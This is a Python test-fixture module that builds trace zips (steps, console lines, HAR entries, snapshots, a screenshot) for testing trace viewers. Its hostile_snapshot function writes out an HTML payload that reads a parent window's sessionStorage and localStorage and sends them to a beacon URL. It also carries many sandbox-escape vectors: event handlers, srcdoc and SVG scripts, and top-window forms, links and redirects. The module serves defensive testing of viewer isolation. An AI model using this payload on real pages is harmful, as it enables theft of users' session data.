"""Trace zips for the viewers' tests, in the trace format (version 1).

``trace_zip`` writes one attempt: three steps (open, a click that fails with a
console error and a 500, and nothing after), console lines, HAR entries, snapshots
and a screenshot. ``hostile`` swaps the snapshots for pages that try every way
out of a sandbox, with their policy left out, as if the capture had missed them:
the viewers must hold on their own.
"""

from __future__ import annotations

import struct
import zlib
from datetime import UTC, datetime
from typing import Any

from testfleet.evidence.manifest import Manifest
from testfleet.evidence.tracezip import read_members, write_trace

T0_MS = 1_796_666_668_000
"""The trace's start (epoch ms)."""
CONSOLE_ERROR = "TypeError: cart is undefined at checkout.js:12"
FAILED_URL = "http://shop.test/api/checkout"
SNAPSHOT_TEXT = "Your basket holds 3 items"
HOSTILE_BUTTON = "tf-hostile-submit"
"""The id of a hostile snapshot's button that submits a form to the beacon, in the top
window: a reader who clicks it must not leave the viewer (only a sandbox stops that)."""


def png(width: int = 4, height: int = 3, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """A small valid PNG of one colour."""
    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height)

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _iso(ms: int) -> str:
    return (
        datetime.fromtimestamp(ms / 1000, UTC)
        .isoformat(timespec="milliseconds")
        .replace("+00:00", "Z")
    )


def _snapshot(body: str) -> str:
    policy = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:"
    return (
        f'<!doctype html><html><head><meta http-equiv="Content-Security-Policy" '
        f'content="{policy}"><style>body{{font-family:sans-serif}}</style></head>'
        f"<body>{body}</body></html>"
    )


def hostile_snapshot(beacon: str, marker: str) -> str:
    """A page that tries, every way it can, to run script, load from ``beacon`` (an
    ``http://host:port`` origin) and reach its embedder (``marker`` names the attempt)."""
    steal = (
        "try{new Image().src='BEACON/stolen?k='+encodeURIComponent("
        "(parent.sessionStorage&&JSON.stringify(parent.sessionStorage))||'')"
        "+'&ls='+encodeURIComponent(JSON.stringify(localStorage))}catch(e){"
        "new Image().src='BEACON/ran-script'}"
    ).replace("BEACON", beacon)
    return (
        "<!doctype html><html><head>"
        f'<meta http-equiv="refresh" content="0; url={beacon}/refresh-{marker}">'
        f'<base href="{beacon}/base-{marker}/">'
        f"<script>{steal}</script>"
        f"<style>body{{background:url({beacon}/css-{marker}.png)}}"
        f"@import url({beacon}/import-{marker}.css);</style>"
        f'<link rel="stylesheet" href="{beacon}/link-{marker}.css">'
        "</head><body>"
        f"<p>{SNAPSHOT_TEXT}</p>"
        f'<img src="{beacon}/img-{marker}.png" onerror="{steal}">'
        f'<img src="relative-{marker}.png">'
        f'<div onmouseover="{steal}" style="background-image:url({beacon}/inline-{marker}.png)">'
        "hover</div>"
        f'<iframe srcdoc="&lt;script&gt;{steal.replace(chr(39), "&#39;")}&lt;/script&gt;'
        f'&lt;img src=&quot;{beacon}/srcdoc-{marker}.png&quot;&gt;"></iframe>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{steal}</script>'
        f'<image href="{beacon}/svg-{marker}.png" width="5" height="5"/></svg>'
        f'<object data="{beacon}/object-{marker}"></object>'
        f'<form action="{beacon}/form-{marker}" target="_top"><input name="q" autofocus '
        f'onfocus="{steal}"><button id="{HOSTILE_BUTTON}">go</button></form>'
        f'<a href="{beacon}/link-{marker}" target="_top">away</a>'
        f"<script>location='{beacon}/navigate-{marker}'</script>"
        "</body></html>"
    )


def members(*, beacon: str | None = None, attempt: int = 1) -> dict[str, bytes]:
    """One attempt's members (see ``trace_zip``)."""
    return read_members(trace_zip(beacon=beacon, attempt=attempt))


def trace_zip(*, beacon: str | None = None, attempt: int = 1) -> bytes:
    """One attempt's trace zip, as the worker writes it; with ``beacon``, every snapshot
    is ``hostile_snapshot``."""
    steps: list[dict[str, Any]] = [
        _step(1, "open the shop", "navigate", "passed", 0, 400),
        _step(2, "check out", "click", "failed", 400, 900, error="element not clickable"),
        _step(3, "see the receipt", "assert_text", "skipped", 900, 900),
    ]
    steps[1]["snapshotBefore"] = "snapshots/002-before.html"
    steps[1]["screenshot"] = "screenshots/step02-check-out.png"
    steps[1]["consoleErrors"] = 1
    steps[1]["failedRequests"] = 1
    console = [
        {"time": _iso(T0_MS + 100), "level": "info", "text": "shop ready", "source": "console-api"},
        {
            "time": _iso(T0_MS + 600),
            "level": "error",
            "text": CONSOLE_ERROR,
            "source": "javascript",
            "url": "http://shop.test/checkout.js",
            "line": 12,
            "column": 5,
            "step": 2,
        },
    ]
    entries = [
        _entry("GET", "http://shop.test/", 200, T0_MS + 50, step=1),
        _entry("POST", FAILED_URL, 500, T0_MS + 650, step=2),
        _entry("GET", "http://cdn.shop.test/x.js", 0, T0_MS + 700, error="net::ERR_FAILED"),
    ]
    manifest = {
        "version": 1,
        "runId": "run-test",
        "caseId": "case-test",
        "testName": "check out a basket",
        "attempt": attempt,
        "mode": "retain-on-failure",
        "status": "failed",
        "startedAt": T0_MS,
        "endedAt": T0_MS + 900,
        "steps": steps,
        "counts": {"console": 2, "consoleErrors": 1, "requests": 3, "failedRequests": 2},
    }
    snapshots: dict[str, str] = {}
    for step in steps:
        for key in ("snapshotBefore", "snapshotAfter"):
            path = step.get(key)
            if path:
                snapshots[path] = (
                    hostile_snapshot(beacon, f"s{step['index']}{key[8:].lower()}")
                    if beacon
                    else _snapshot(f"<h1>{SNAPSHOT_TEXT}</h1><p>step {step['index']}</p>")
                )
    har = {
        "log": {
            "version": "1.2",
            "creator": {"name": "testfleet", "version": "1"},
            "pages": [],
            "entries": entries,
        }
    }
    return write_trace(
        Manifest.model_validate(manifest),
        har,
        console,  # type: ignore[arg-type]
        snapshots,
        {"screenshots/step02-check-out.png": png()},
    )


def _step(
    index: int, name: str, kind: str, status: str, start: int, end: int, error: str | None = None
) -> dict[str, Any]:
    return {
        "index": index,
        "name": name,
        "type": kind,
        "status": status,
        "startedAt": T0_MS + start,
        "endedAt": T0_MS + end,
        "error": error,
        "screenshot": None,
        "snapshotBefore": None,
        "snapshotAfter": f"snapshots/{index:03d}-after.html" if status != "skipped" else None,
        "consoleErrors": 0,
        "failedRequests": 0,
    }


def _entry(
    method: str, url: str, status: int, at_ms: int, step: int | None = None, error: str = ""
) -> dict[str, Any]:
    response: dict[str, Any] = {
        "status": status,
        "statusText": "",
        "headers": [],
        "content": {"size": 0, "mimeType": ""},
        "_transferSize": 120,
    }
    if error:
        response["_error"] = error
    entry: dict[str, Any] = {
        "startedDateTime": _iso(at_ms),
        "time": 12.5,
        "request": {"method": method, "url": url, "headers": [], "queryString": []},
        "response": response,
        "timings": {"send": 0, "wait": 12.5, "receive": 0},
    }
    if step is not None:
        entry["_step"] = step
    return entry
